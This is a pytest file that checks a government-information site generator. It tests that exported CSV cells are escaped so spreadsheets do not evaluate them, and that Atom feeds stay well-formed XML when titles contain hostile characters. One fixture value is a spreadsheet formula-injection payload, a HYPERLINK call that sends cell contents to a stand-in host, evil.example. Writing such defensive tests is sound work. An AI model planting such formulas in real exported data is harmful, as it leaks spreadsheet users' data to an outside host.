"""Open data and feeds safe for any value (issue #23, part 6).

A real site is built with hostile titles and names; the test reads ``data/items.csv`` as a
spreadsheet would and parses every Atom feed as XML.
"""

from __future__ import annotations

import csv
import io
import json
import xml.etree.ElementTree as ET

import pytest
from conftest import POLICY, front_matter
from linksite import MKDOCS_YML, buildable, run

from generator.publish.feeds import xml_text
from generator.site.open_data import spreadsheet_safe

ZCWJ = "content/fdzdgknr/zcwj"
FORMULAS = {
    "20181220-a.md": """'=HYPERLINK("http://evil.example/?"&A1,"点击查看")'""",
    "20181220-b.md": '"+1+2 关于调整的通知"',
    "20181220-c.md": '"-2+3 关于调整的通知"',
    "20181220-d.md": '"@SUM(1+1) 关于调整的通知"',
}


def titles_in_csv(site) -> dict[str, str]:
    data = (site.root / "site" / "data" / "items.csv").read_bytes().decode("utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(data)))
    return {row["标题"].lstrip("'"): row["标题"] for row in rows}


def test_csv_cells_that_a_spreadsheet_would_evaluate_are_neutralized(site) -> None:
    buildable(site)
    for serial, (name, title) in enumerate(FORMULAS.items(), start=120):
        values = dict(POLICY, index_no=f"015180001/2018-{serial:05d}", title=title)
        values["doc_no"] = f"源政办〔2018〕{serial}号"
        values["summary"] = '"\\t=1+1 制表符开头的概述"' if serial == 120 else POLICY["summary"]
        site.write(f"{ZCWJ}/{name}", front_matter(values))
    result = run(site, "build")
    assert result.returncode == 0, result.stdout + result.stderr
    shown = titles_in_csv(site)
    for title in ("=HYPERLINK(", "+1+2", "-2+3", "@SUM(1+1)"):
        (cell,) = [cell for plain, cell in shown.items() if plain.startswith(title)]
        assert cell.startswith("'" + title), cell  # text to Excel, WPS and LibreOffice
    data = (site.root / "site" / "data" / "items.csv").read_bytes().decode("utf-8-sig")
    assert ",'=1+1 制表符开头的概述," in data  # the summary, its tab stripped when read
    assert "\n=" not in data and ",=" not in data and ",+" not in data and ",@" not in data
    document = json.loads((site.root / "site" / "data" / "items.json").read_text("utf-8"))
    assert any(item["title"].startswith("=HYPERLINK(") for item in document["items"])  # as is


@pytest.mark.parametrize(
    ("cell", "safe"),
    [
        ("=1+1", "'=1+1"),
        ("+86 0971", "'+86 0971"),
        ("-5", "'-5"),
        ("@cmd", "'@cmd"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("源政办〔2018〕51号", "源政办〔2018〕51号"),
        ("2018-12-14", "2018-12-14"),
        ("", ""),
    ],
)
def test_spreadsheet_safe(cell: str, safe: str) -> None:
    assert spreadsheet_safe(cell) == safe


def test_feeds_are_valid_xml_whatever_the_names_hold(site) -> None:
    buildable(site)
    config = MKDOCS_YML.replace(
        "site_name: 湟源县政府信息公开（测试）", 'site_name: "湟源县\\x01政府信息公开\\e[0m"'
    )
    site.write("mkdocs.yml", config)
    catalog = (site.root / "columns.yml").read_text(encoding="utf-8")
    site.write(
        "columns.yml",
        catalog.replace("        name: 政策文件\n", '        name: "政策文件 <&> ]]>"\n'),
    )
    title = "\"关于 a < b && c > d ]]> 'x' 及 𠀀 的通知\""
    site.write(
        f"{ZCWJ}/20181220-x.md",
        front_matter(dict(POLICY, index_no="015180001/2018-00130", doc_no="源政办〔2018〕130号", title=title)),
    )
    result = run(site, "build")
    assert result.returncode == 0, result.stdout + result.stderr
    feeds = sorted((site.root / "site" / "feeds").rglob("*.xml"))
    assert feeds
    for feed in feeds:
        ET.fromstring(feed.read_bytes())  # well-formed, or this raises
    site_feed = (site.root / "site" / "feeds" / "atom.xml").read_text(encoding="utf-8")
    assert "湟源县\ufffd政府信息公开" in site_feed
    root = ET.fromstring(site_feed.encode())
    titles = [e.text for e in root.iter("{http://www.w3.org/2005/Atom}title")]
    assert "关于 a < b && c > d ]]> 'x' 及 𠀀 的通知" in titles  # escaped, read back whole


def test_xml_text_replaces_only_what_xml_forbids() -> None:
    assert xml_text("a\x00b\x1bc\ud800d\ufffee") == "a\ufffdb\ufffdc\ufffdd\ufffde"
    assert xml_text("\t\n\r 正文 <&> 𠀀") == "\t\n\r 正文 <&> 𠀀"
